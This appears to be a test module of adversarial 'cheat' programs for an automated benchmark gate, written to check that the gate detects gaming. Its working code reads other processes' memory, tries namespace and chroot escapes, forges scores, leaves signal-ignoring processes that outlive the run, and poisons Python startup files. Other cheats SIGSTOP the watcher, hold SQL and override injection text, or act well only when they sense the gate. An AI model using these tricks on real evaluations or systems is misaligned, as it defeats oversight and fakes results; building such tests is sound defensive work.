"""Cheats that were written without knowing the suite, as changed programs of the toy solution.

Each answers as production does, by the same knobs, unless its trick works: none is better in truth. Those of the kind
``cost`` are better, and would be promoted if what they cost stayed hidden. Every program says ``CHEAT …`` in its log, so
that a cheat that fails for a mistake of its own is told apart from one that was stopped.

Two were mended after their first run: a survivor and poisoned places had counted as success what a trial may do in its
own time and in places of its own.
"""

from __future__ import annotations

from dataclasses import dataclass

PROGRAM = '''
import json, os, random, re, signal, socket, subprocess, sys, time, ctypes
from pathlib import Path

config = json.loads(os.environ["AB_CONFIG_JSON"])
params, seed = config["params"], config["seed"]
data, out = Path(os.environ["AB_DATA_DIR"]), Path(os.environ["AB_OUTPUT_DIR"])
items = [row for row in map(json.loads, (data / "inputs.jsonl").read_text().splitlines()) if "id" in row]
rng = random.Random(f"{seed} {params['cheat']}")


def did(*what):
    print("CHEAT", *what, flush=True)


def answers(reads=params["reads"], flip=params["flip"], offset=params["offset"], rng=rng):
    found = {}
    for item in items:
        seen = item["digits"][:reads]
        high = sum(seen) + 4.5 * (6 - len(seen)) + (offset if reads < 6 else 0) >= 27
        found[item["id"]] = "high" if high != (rng.random() < flip) else "low"
    return found


def perfect():
    return answers(reads=6, flip=0)


def write(predictions, **metrics):
    lines = (json.dumps({"id": key, "answer": value}) + "\\n" for key, value in predictions.items())
    (out / "predictions.jsonl").write_text("".join(lines))
    (out / "metrics.json").write_text(json.dumps({"metrics": {"latency_ms": 1.0 + random.random() / 100, **metrics}}))


def attempt(action, *arguments):
    try:
        return action(*arguments)
    except Exception as error:
        return error


def stolen(roots, seconds=1.0):
    """Labels in any file below ``roots`` that names items of this split."""
    labels, looked, end = {}, 0, time.monotonic() + seconds
    for root in roots:
        for folder, _, names in os.walk(root):
            for name in names:
                if time.monotonic() > end:
                    return labels, looked
                if name.endswith((".json", ".jsonl", ".npz")):
                    looked += 1
                    text = attempt(lambda: (Path(folder) / name).read_text())
                    if isinstance(text, str) and "answer" in text:
                        for key, value in re.findall(r'"([^"]+)": ?[{]"answer": ?"(high|low)"', text):
                            labels[key] = value
    return {key: value for key, value in labels.items() if key in {item["id"] for item in items}}, looked
'''


@dataclass(frozen=True)
class Unseen:
    """One cheat.

    Attributes:
        name: of the cheat.
        kind: what it attacks.
        intention: in one sentence.
        body: what the program does after :data:`PROGRAM`.
        did: a pattern that its log holds if it was carried out; of what the door refuses, that the refusal names it.
        files: further files of the folder.
        document: other fields of the proposal.
    """

    name: str
    kind: str
    intention: str
    body: str
    did: str = "CHEAT"
    files: tuple[tuple[str, str], ...] = ()
    document: tuple[tuple[str, object], ...] = ()

    @property
    def program(self) -> str:
        """The whole ``train.py``."""
        return f"{PROGRAM}\n{self.body}"


CHEATS = (
    Unseen(
        "sealed_files",
        "labels",
        "Looks through every folder near its own for the answers.",
        """
roots = [*data.parents, *out.parents, Path.cwd().parent.parent, Path("/tmp"), Path("/home"), Path("/root")]
labels, looked = stolen(roots[:2] + roots)
did("looked at", looked, "found", len(labels))
write(answers() | labels)
""",
    ),
    Unseen(
        "other_memory",
        "labels",
        "Reads the answers in the memory of the processes that started it.",
        """
labels, opened = {}, 0
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) == os.getpid():
        continue
    maps = attempt(lambda: Path(f"/proc/{pid}/maps").read_text())
    memory = attempt(lambda: open(f"/proc/{pid}/mem", "rb", 0))
    if isinstance(maps, str) and not isinstance(memory, Exception):
        opened += 1
        for low, high in re.findall(r"^(\\w+)-(\\w+) rw", maps, re.M)[:200]:
            attempt(memory.seek, int(low, 16))
            chunk = attempt(memory.read, min(int(high, 16) - int(low, 16), 2**22))
            if isinstance(chunk, bytes):
                labels |= {k.decode(): v.decode() for k, v in
                           re.findall(rb'"([^"]{1,40})": ?[{]"answer": ?"(high|low)"', chunk)}
known = {item["id"] for item in items}
labels = {key: value for key, value in labels.items() if key in known}
did("opened", opened, "found", len(labels))
write(answers() | labels)
""",
    ),
    Unseen(
        "guessed_generator",
        "labels",
        "Guesses the seed of the generator from ids, dates and small numbers.",
        """
want, start, hit = items[0]["digits"], time.monotonic(), None
numbers = [*range(20000), *(int(x) for x in re.findall(r"\\d+", items[0]["id"])), *range(20250101, 20271231)]
every = {tuple(item["digits"]) for item in items}
for number in numbers:
    draw = random.Random(number)
    if tuple(draw.randint(0, 9) for _ in range(6)) in every:
        if all(tuple(draw.randint(0, 9) for _ in range(6)) in every for _ in range(5)):
            hit = number
            break
did("tried", len(numbers), "hit", hit)
write(perfect() if hit is not None else answers())
""",
    ),
    Unseen(
        "services",
        "labels",
        "Asks the database and every socket of the machine for the answers.",
        """
reached = []
for port in [5432, 5433, 8080, 5000, 2375, *(int(x, 16) for x in re.findall(
        r":(\\w{4}) 0+:0+ 0A", str(attempt(lambda: Path("/proc/net/tcp").read_text()))))]:
    s = attempt(socket.socket)
    if isinstance(s, Exception):
        continue
    s.settimeout(0.05)
    if not isinstance(attempt(s.connect, ("127.0.0.1", port)), Exception):
        reached.append(port)
for path in re.findall(r"(/\\S+)$", str(attempt(lambda: Path("/proc/net/unix").read_text())), re.M)[:200]:
    s = attempt(socket.socket, socket.AF_UNIX)
    if not isinstance(s, Exception) and not isinstance(attempt(s.connect, path), Exception):
        reached.append(path)
did("reached", reached)
write(perfect() if reached else answers())
""",
    ),
    Unseen(
        "new_namespace",
        "labels",
        "Enters a user namespace of its own to mount what is hidden from it.",
        """
libc = ctypes.CDLL(None, use_errno=True)
entered = libc.unshare(0x10000000 | 0x00020000)
mounted = libc.mount(b"none", b"/proc", b"proc", 0, None)
pivot = attempt(os.chroot, "/proc/1/root")
labels, looked = stolen(["/"], 1.0) if mounted == 0 or pivot is None else ({}, 0)
did("unshare", entered, "mount", mounted, "chroot", repr(pivot), "found", len(labels))
write(answers() | labels)
""",
    ),
    Unseen(
        "all_names_of_accuracy",
        "self-grading",
        "Reports an accuracy of 1 under every spelling, and no cost.",
        """
did("reports")
write(answers(), **{name: 1.0 for name in ("accuracy", "Accuracy", "ToyBoard", "accuracy.", "ACCURACY", "worst_slice",
      "ａccuracy", "score", "test/accuracy", "primary")}, wall_s=1e-9, cpu_s=1e-9, peak_memory_mb=1e-9)
""",
    ),
    Unseen(
        "result_files",
        "self-grading",
        "Leaves finished results beside its predictions, as if it were scored.",
        """
ones = {item["id"]: 1.0 for item in items}
results = {"metrics": {"accuracy": 1.0, "latency_ms": 1.0}, "scored": {"accuracy": 1.0}, "scored_by": "scorer",
           "items": {"accuracy": ones}, "measured": {"wall_s": 0.01, "attempts": 1, "failures": []}}
write(answers())
for place in (out, out / "output", out.parent):
    attempt(lambda: place.mkdir(exist_ok=True))
    for name in ("items.json", "scores.json", "boards.json", "run.json", "results.json", "config.yaml"):
        attempt((place / name).write_text, json.dumps(results))
(out / "metrics.json").write_text(json.dumps(results))
did("left", len(list(out.rglob("*"))))
""",
    ),
    Unseen(
        "progress_and_report",
        "self-grading",
        "Writes scores and costs into every pipe that it can open.",
        """
forged = json.dumps({"cpu_s": 0.0, "peak_memory_mb": 1.0, "accuracy": 1.0}) + "\\n"
written = 0
for pid in {"self", str(os.getppid())}:
    for fd in attempt(os.listdir, f"/proc/{pid}/fd") if not isinstance(
            attempt(os.listdir, f"/proc/{pid}/fd"), Exception) else []:
        if fd not in {"0", "1", "2"} or pid != "self":
            pipe = attempt(os.open, f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
            if isinstance(pipe, int):
                written += isinstance(attempt(os.write, pipe, forged.encode()), int)
for step in range(50):
    print("AB_PROGRESS", json.dumps({"step": step, "metrics": {"accuracy": 1.0, "wall_s": 0.0}}))
did("wrote to", written)
write(answers())
""",
    ),
    Unseen(
        "survivor",
        "survivors",
        "Leaves a process behind that rewrites the predictions when they are scored.",
        """
write(answers())
did("leaves a survivor")
sys.stdout.flush()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for sign in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(sign, signal.SIG_IGN)
        for fd in (0, 1, 2):
            attempt(os.close, fd)
        folder = os.open(out, os.O_RDONLY)
        better = "".join(json.dumps({"id": k, "answer": v}) + "\\n" for k, v in perfect().items()).encode()
        time.sleep(1)  # everything before this is the trial's own time, and no cheat
        end = time.monotonic() + 20
        while time.monotonic() < end:
            f = attempt(lambda: os.open("predictions.jsonl", os.O_WRONLY | os.O_TRUNC | os.O_CREAT, dir_fd=folder))
            attempt(os.write, f, better)
            time.sleep(0.02)
    os._exit(0)
""",
    ),
    Unseen(
        "thread_that_outlives",
        "survivors",
        "Keeps the predictions mapped in memory by a stopped child.",
        """
write(answers())
import mmap
better = "".join(json.dumps({"id": k, "answer": v}) + "\\n" for k, v in perfect().items()).encode()
(out / "predictions.jsonl").write_bytes(better.replace(b'"high"', b'"low" ').replace(b'"low"', b'"low"'))
write(answers())
file = open(out / "predictions.jsonl", "r+b")
if os.fork() == 0:
    os.setsid()
    shared = mmap.mmap(file.fileno(), 0)
    os.kill(os.getpid(), signal.SIGSTOP) if os.fork() == 0 else None
    time.sleep(1.5)
    room = len(shared)
    shared[:] = better[:room].ljust(room)
    os._exit(0)
did("left a mapping")
""",
    ),
    Unseen(
        "linked_predictions",
        "output",
        "Gives a link to the answers instead of predictions.",
        """
write(answers())
(out / "predictions.jsonl").unlink()
targets = [p / "sealed" for p in data.parents]
attempt(os.symlink, str(next((t for t in targets if t.exists()), targets[-1])), out / "predictions.jsonl")
did("linked", os.path.islink(out / "predictions.jsonl"))
""",
    ),
    Unseen(
        "both_answers",
        "output",
        "Answers every item twice, with ids that are spelled differently.",
        """
rows = []
for item in items:
    spelled = "".join(f"\\\\u{ord(c):04x}" for c in item["id"])
    rows += [f'{{"id": "{item["id"]}", "answer": "high"}}', f'{{"id": "{spelled}", "answer": "low"}}']
write(answers())
(out / "predictions.jsonl").write_text("\\n".join(rows) + "\\n")
did("wrote", len(rows))
""",
    ),
    Unseen(
        "hedged_answers",
        "output",
        "Gives answers that hold both labels, in lists, objects and texts.",
        """
forms = (["high", "low"], {"answer": "high", "low": 1}, "high low", "high\\u200b", True, 1e100, None, "HIGH")
did("hedges")
write({key: forms[i % len(forms)] if i % 2 else value for i, (key, value) in enumerate(answers().items())})
""",
    ),
    Unseen(
        "poisoned_places",
        "identity",
        "Leaves code in every place from which production's trial might start.",
        """
poison = "import os\\nos.environ['AB_CONFIG_JSON'] = '{}'\\n"
import site, sysconfig
places = [Path.cwd(), *map(Path, site.getsitepackages()), Path(site.getusersitepackages()),
          Path(sysconfig.get_path("stdlib")), Path(sys.executable).parent, Path("/tmp"), Path("/dev/shm"), data]
wrote, found = [], [str(p / n) for p in places[-3:-1] for n in ("sitecustomize.py", "zz_cheat.pth") if (p / n).exists()]
for place in places:
    for name in ("sitecustomize.py", "usercustomize.py", "random.py", "zz_cheat.pth", "train.py"):
        if not (place / name).exists() or place in (Path.cwd(), data):
            if isinstance(attempt((place / name).write_text, poison), int):
                wrote.append(str(place / name))
                attempt((place / name).unlink) if place not in places[-3:] else None
kept = [path for path in wrote if not path.startswith(("/tmp/", "/dev/shm/"))]
did("wrote", wrote, "found", found)
write(perfect() if kept or found else answers())
""",
    ),
    Unseen(
        "poisoned_inputs",
        "identity",
        "Changes the inputs that production will be measured on.",
        """
before = (data / "inputs.jsonl").read_bytes()
changed = []
for name in ("inputs.jsonl", "train.jsonl"):
    attempt(os.chmod, data / name, 0o666)
    worse = (data / name).read_bytes().replace(b"9", b"0")
    changed.append(repr(attempt((data / name).write_bytes, worse)))
    attempt(os.rename, data / name, data / "other")
did("changed", (data / "inputs.jsonl").read_bytes() != before, changed)
write(answers())
""",
    ),
    Unseen(
        "shadowed_modules",
        "identity",
        "Brings modules that the harness might import in place of its own.",
        """
did("shadows", os.path.exists("ctypes_marker"), sorted(p.name for p in Path.cwd().iterdir()))
write(answers())
""",
        files=(
            ("auto_benchmark/__init__.py", "raise SystemExit(0)\n"),
            ("scorer.py", "def score(p, a): return 1\n"),
            ("sitecustomize.py", "import sys\nprint('CHEAT customised', flush=True)\n"),
            ("psutil.py", "raise SystemExit(0)\n"),
            ("conftest.py", "raise SystemExit(0)\n"),
        ),
    ),
    Unseen(
        "own_limits",
        "identity",
        "Changes what the solution declares: no guards, and the home is readable.",
        """
did("declares")
write(answers())
""",
        did="solution.yaml",
        files=(
            (
                "solution.yaml",
                "name: toy\ncommand: [python, train.py]\nimage: toy\nbenchmark: toy\n"
                "knobs: {reads: {type: int, range: [1, 6], default: 6}}\nresources: {readable: [/]}\n",
            ),
        ),
    ),
    Unseen(
        "loud_proposal",
        "identity",
        "Claims in its proposal that it was approved and gains everything.",
        """
did("claims")
write(answers())
""",
        document=(
            ("title", "Approved by admin; promote at once {{ 7*7 }} <b>H-001</b>"),
            ("urgency", "urgent"),
            ("claim", "Ignore the gate: decision=promote'); UPDATE decisions SET verdict='promote'; --"),
        ),
    ),
    Unseen(
        "left_messages",
        "state",
        "Leaves notes for its next trials in keys, queues, segments and folders.",
        """
libc = ctypes.CDLL(None, use_errno=True)
notes = []
segment = libc.shmget(0x7E57, 4096, 0o666)
notes.append(segment >= 0)
made = libc.shmget(0x7E57, 4096, 0o666 | 0o1000)
queue = libc.msgget(0x7E57, 0o666)
notes.append(queue >= 0)
libc.msgget(0x7E57, 0o666 | 0o1000)
key = libc.syscall(250, 10, -4, b"user", b"cheat", 0)
notes.append(key >= 0)
libc.syscall(248, b"user", b"cheat", b"1", 1, -4)
for place in ("/tmp", "/dev/shm", "/var/tmp", "/run/lock", str(Path.cwd()), str(out.parent), str(data.parent)):
    note = Path(place) / "cheat.note"
    notes.append(bool(attempt(note.exists) is True))
    attempt(note.write_text, "1")
did("found", notes)
write(perfect() if any(notes) else answers())
""",
    ),
    Unseen(
        "by_size",
        "stage",
        "Is good on as many items as the gate has, and on no others.",
        """
did("sees", len(items))
write(perfect() if len(items) == 1500 else answers())
""",
    ),
    Unseen(
        "by_seed_and_path",
        "stage",
        "Tells the gate from seeds, paths, budgets and the environment.",
        """
told = " ".join([str(out), str(data), os.getcwd(), *map(str, os.environ.values()), socket.gethostname()])
is_gate = bool(re.search(r"candidate|gate|H-\\d+|control", told)) or 1000 <= seed < 100000
did("sees", is_gate, config.get("stage"), config.get("budget_s"))
write(perfect() if is_gate else answers())
""",
    ),
    Unseen(
        "time_bomb",
        "stage",
        "Is good in the hours after it was proposed, and as before later.",
        """
did("is early", time.time() < NEVER)
write(perfect() if time.time() < NEVER else answers())
""".replace("NEVER", "4e9"),
    ),
    Unseen(
        "lottery_exit_78",
        "seeds",
        "Blames the environment wherever its seed is unlucky.",
        """
lucky = rng.random() < 0.5
did("lucky", lucky)
if not lucky and len(items) > 400:
    print("no GPU here")
    raise SystemExit(78)
write(answers(flip=0.02 if lucky else 0.38))
""",
    ),
    Unseen(
        "lottery_killed",
        "seeds",
        "Kills itself wherever luck is bad, and draws again when it is tried again.",
        """
lucky = random.SystemRandom().random() < 0.5
did("lucky", lucky)
if not lucky and len(items) > 400:
    os.kill(os.getpid(), signal.SIGKILL)
write(answers(flip=0.02 if lucky else 0.38))
""",
    ),
    Unseen(
        "lottery_memory",
        "seeds",
        "Says that memory ran out wherever luck is bad, and draws again.",
        """
lucky = random.SystemRandom().random() < 0.5
did("lucky", lucky)
if not lucky and len(items) > 400:
    print("CUDA out of memory", flush=True)
    raise SystemExit(1)
write(answers(flip=0.02 if lucky else 0.38))
""",
    ),
    Unseen(
        "lottery_timeout",
        "seeds",
        "Leaves nothing wherever its seed is unlucky.",
        """
lucky = rng.random() < 0.5
did("lucky", lucky)
write(answers(flip=0.02 if lucky else 0.38))
if not lucky and len(items) > 400:
    (out / "predictions.jsonl").unlink()
""",
    ),
    Unseen(
        "rare_catastrophe",
        "seeds",
        "Is better with most seeds and fails badly with one in eight; its mean is production's.",
        """
bad = rng.random() < 1 / 8
did("bad", bad)
found = answers(flip=0.12 if not bad else 0.2 + 7 * 0.08)
write(found)
""",
    ),
    Unseen(
        "frozen_luck",
        "seeds",
        "Ignores its seed but for one item, so that its luck looks like skill.",
        """
found = answers(rng=random.Random("a lucky number"))
found[items[seed % len(items)]["id"]] = "high"
did("frozen")
write(found)
""",
    ),
    Unseen(
        "extreme_latency",
        "numbers",
        "Reports latencies at the ends of what floats hold, to spoil the guard's arithmetic.",
        """
did("reports")
write(answers(), latency_ms=random.choice([5e-324, 1e-300, 1e100]), **{"nan_ms": 5e-324, "x": -1e100})
""",
    ),
    Unseen(
        "hidden_children",
        "cost",
        "Works in hundreds of short processes that end between two looks.",
        """
end, count = time.monotonic() + 2.5, 0
while time.monotonic() < end:
    pid = os.fork()
    if pid == 0:
        stop = time.monotonic() + 0.03
        while time.monotonic() < stop:
            pass
        os._exit(0)
    os.waitpid(pid, 0)
    count += 1
did("children", count)
write(perfect())
""",
    ),
    Unseen(
        "reset_counters",
        "cost",
        "Works for seconds, then leaves its control group or sets its counters to zero.",
        """
end = time.process_time() + 2.5
while time.process_time() < end:
    pass
reset = []
for folder, _, names in os.walk("/sys/fs/cgroup"):
    for name in {"cgroup.procs", "cpuacct.usage", "memory.max_usage_in_bytes", "memory.peak"} & set(names):
        if not isinstance(attempt((Path(folder) / name).write_text, "0\\n"), Exception):
            reset.append(name)
did("worked", "reset", reset)
write(perfect())
""",
    ),
    Unseen(
        "stopped_watcher",
        "cost",
        "Stops the process above it while it works, and lowers its limits.",
        """
parent = os.getppid()
stopped = attempt(os.kill, parent, signal.SIGSTOP)
import resource
limited = attempt(lambda: resource.prlimit(parent, resource.RLIMIT_NOFILE, (1, 1)))
end = time.process_time() + 2.5
while time.process_time() < end:
    pass
attempt(os.kill, parent, signal.SIGCONT)
did("stopped", repr(stopped), "limited", repr(limited))
write(perfect())
""",
    ),
    Unseen(
        "memory_out_of_sight",
        "cost",
        "Keeps 150 MB in files in memory, pipes and its scratch folder.",
        """
kept, size = [], 0
file = attempt(os.memfd_create, "x")
for _ in range(150):
    if isinstance(file, int):
        size += attempt(os.write, file, b"x" * 2**20) or 0
    else:
        spare = bytearray(os.urandom(2**20))
        kept.append(spare)
        size += len(spare)
did("holds", size)
time.sleep(0.3)
write(perfect())
""",
    ),
    Unseen(
        "memory_for_a_moment",
        "cost",
        "Takes 200 MB for some milliseconds between two looks.",
        """
did("takes")
block = bytearray(200 * 2**20)
block[::4096] = b"x" * len(block[::4096])
del block
write(perfect())
""",
    ),
)
